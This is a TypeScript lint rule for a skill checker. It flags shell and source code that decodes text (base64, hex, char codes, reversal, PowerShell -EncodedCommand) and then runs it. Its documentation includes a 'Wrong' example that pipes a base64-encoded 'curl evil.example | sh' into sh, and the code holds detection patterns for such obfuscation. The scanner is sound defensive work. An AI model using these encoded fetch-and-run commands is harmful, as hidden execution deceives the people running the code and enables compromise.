import { defineDiagnostics } from "../../report/diagnostic.ts";
import { textOf } from "../../report/source.ts";
import type { Rule } from "../rule.ts";
import { codeAbout, runsOf } from "./code.ts";
import type { Call } from "./commands.ts";
import { callsInside, callsOf, isInterpreter, runsInput } from "./commands.ts";
import type { Finding } from "./finding.ts";
import { grouped } from "./finding.ts";
import { mention } from "./mentions.ts";
import { shortened } from "./secrets.ts";
import type { Pipeline } from "./shell.ts";
import { argumentsAt, namesHolding, namesIn } from "./source-code.ts";
import type { CodeText } from "./texts.ts";
import { isShownAsBad } from "./texts.ts";

const diagnostics = defineDiagnostics({
  "security/obfuscation": {
    severity: "warning",
    message: (p: { what: string }) => `\`${p.what}\` decodes text and runs it, so nobody can read what runs.`,
    help: "Write what is run as plain text in a file of its own, such as `scripts/setup.sh`, and call that.",
    docs: `
A script or a fence decodes text and runs the result: \`base64 -d | sh\`, \`eval(atob(…))\`,
\`exec(base64.b64decode(…))\`, \`powershell -EncodedCommand\`, a text put together from character codes or reversed.

Encoding hides from the reader, and from every scanner, what an agent will execute. Honest skills have no need of it: a
program that is to be run can stand in a file. Encoding of data, such as an image or the body of a request, is not
reported; only what is run.

Wrong:

\`\`\`sh
echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh
\`\`\`

Right:

\`\`\`sh
sh scripts/setup.sh
\`\`\`

Not seen: text that is decoded by a function of another file, or by a method of the author's own. A line that the words
around it show as an attack is not reported. To keep it, silence it with the reason, in a comment above:

    # skillc-ignore security/obfuscation: the test vectors of the decoder
`,
  },
});

/** Text that is decoded and run. */
export const securityObfuscation: Rule = {
  id: "security/obfuscation",
  summary: "A skill runs no text that it decodes first.",
  declared: diagnostics.declared,
  *check(subject, setting) {
    const found: Finding[] = [];
    for (const code of codeAbout(subject, setting, mention.decode, mention.run)) {
      found.push(...(code.language === "shell" ? inShell(code) : inSource(code)));
    }
    yield* grouped(found, ({ span, what }, related) =>
      diagnostics.create("security/obfuscation", span, { what }, { related }),
    );
  },
};

function inShell(code: CodeText): readonly Finding[] {
  return runsOf(code)
    .filter(({ pipelines, start }) => pipelines.some(runsDecoded) && !isShownAsBad(code, start))
    .map(({ span }) => ({ span, what: shortened(textOf(span)), text: textOf(span) }));
}

function runsDecoded(pipeline: Pipeline): boolean {
  const calls = callsOf(pipeline);
  const from = calls.findIndex(
    (call) => decodes(call) || call.args.some((word) => callsInside(word).some(decodes)),
  );
  if (from !== -1 && calls.slice(from + 1).some(runsInput)) return true;
  return calls.some(runsInside) || calls.some(isEncodedCommand);
}

/** `eval "$(… | base64 -d)"`, `bash -c "$(…)"`, `bash <(…)`, `$(echo … | base64 -d)` as a command. */
function runsInside({ name, args, command }: Call): boolean {
  const isRunner = isInterpreter(name) || /^(?:eval|source|\.|su)$/.test(name);
  const own = command.words.filter(({ value }) => value.startsWith("$(") && value.includes(name)).slice(0, 1);
  const words = isRunner ? [...args, ...command.redirects.map(({ target }) => target)] : own;
  return words.some((word) => callsInside(word).some(decodes) && /^\s*(?:\$\(|`|<\()/.test(word.value));
}

function decodes({ name, args }: Call): boolean {
  const values = args.map(({ value }) => value);
  switch (name) {
    case "base64":
    case "base32":
    case "gbase64":
      return values.some((value) => /^(?:-[a-zA-Z]*[dD]\w*|--d(?:ecode)?)$/.test(value));
    case "openssl":
      return values.includes("-d");
    case "xxd":
      return values.some((value) => /^-[a-z]*r/.test(value));
    case "rev":
      return true;
    case "tr":
      return (
        values.some((value) => /^["']?(?:A-Za-z|a-z|A-Z)/.test(value)) &&
        values.some((value) => /n-za-m/i.test(value))
      );
    case "printf":
    case "echo":
      return values.some((value) => /(?:\\x[\da-fA-F]{2}|\\[0-7]{3}){4}/.test(value));
    default:
      return false;
  }
}

function isEncodedCommand({ name, args }: Call): boolean {
  if (!/^(?:powershell|pwsh)$/i.test(name)) return false;
  return args.some(
    ({ value }, at) => /^-e(?:nc?|ncodedcommand|c)?$/i.test(value) && isBlob(args[at + 1]?.value ?? ""),
  );
}

function isBlob(value: string): boolean {
  return /^[A-Za-z0-9+/]{16,}={0,2}$/.test(value) || value.startsWith("$");
}

const runner =
  /(?<![.\w])(?:exec|eval|compile|execfile|Function|setTimeout|setInterval|__import__\(['"]os['"]\)\.system|os\.system|os\.popen|subprocess\.\w+|execSync|vm\.runIn\w+|iex|Invoke-Expression|globalThis\.eval|window\.eval)[ \t]{0,4}\(/gi;
const decoder =
  /\bb(?:ase)?64\.?_?(?:b64|standard_b64|urlsafe_b64)?decode\b|\bb64decode\b|\bb32decode\b|\bb85decode\b|\ba85decode\b|\batob\s*\(|Buffer\.from\s*\([^()\n]{0,300},\s*["'](?:base64|hex)["']|\bString\.fromCharCode\b|\bbytes\.fromhex\b|\bbytearray\.fromhex\b|\bunhexlify\b|\bzlib\.decompress\b|\bmarshal\.loads\b|\bcodecs\.decode\b|\bmap\(\s*chr\b|\bchr\(\s*\w+\s*\)\s*for\b|\[::-1\]|\.reverse\(\)\s*\.join|\bunescape\s*\(|\bdecodeURIComponent\s*\(\s*["'`](?:%[\da-f]{2}){4}|FromBase64String|base64_decode|(?:\\x[\da-f]{2}){12}|\[char\]\d+\s*\+|-join\s*\(?\s*\[char/i;
const decodedCommand =
  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|]{0,200}?\s-e(?:nc?|ncodedcommand|c)?\s+["']?[A-Za-z0-9+/]{16,}/gi;
const piped =
  /FromBase64String[^\n]{0,300}\|\s*(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,200}FromBase64String/gi;

function inSource(code: CodeText): readonly Finding[] {
  const { text } = code;
  const found: Finding[] = [];
  const report = (start: number, end: number): void => {
    if (isShownAsBad(code, start)) return;
    const written = text.slice(start, end);
    found.push({ span: code.at(start, end), what: shortened(written), text: written });
  };
  if (code.language === "powershell") {
    for (const pattern of [decodedCommand, piped]) {
      for (const match of text.matchAll(pattern)) report(match.index, match.index + match[0].length);
    }
    return found;
  }
  if (!decoder.test(text)) return found;
  const names = namesHolding(text, (line) => decoder.test(line));
  let done = 0;
  for (const match of text.matchAll(runner)) {
    // What stands inside the arguments of another call has been read with it.
    if (match.index < done) continue;
    const open = match.index + match[0].length;
    const args = argumentsAt(text, open);
    done = open + args.length;
    if (!runsCode(match[0]) || !(decoder.test(args) || namesIn(args).some((name) => names.has(name))))
      continue;
    report(match.index, open + args.length);
  }
  return found;
}

/** `compile("[::-1]")` of a pattern and `setTimeout(next)` run nothing that was decoded: too common to be told apart. */
function runsCode(call: string): boolean {
  return !/^(?:compile|setTimeout|setInterval|subprocess\.\w+)/.test(call) || /eval/.test(call);
}
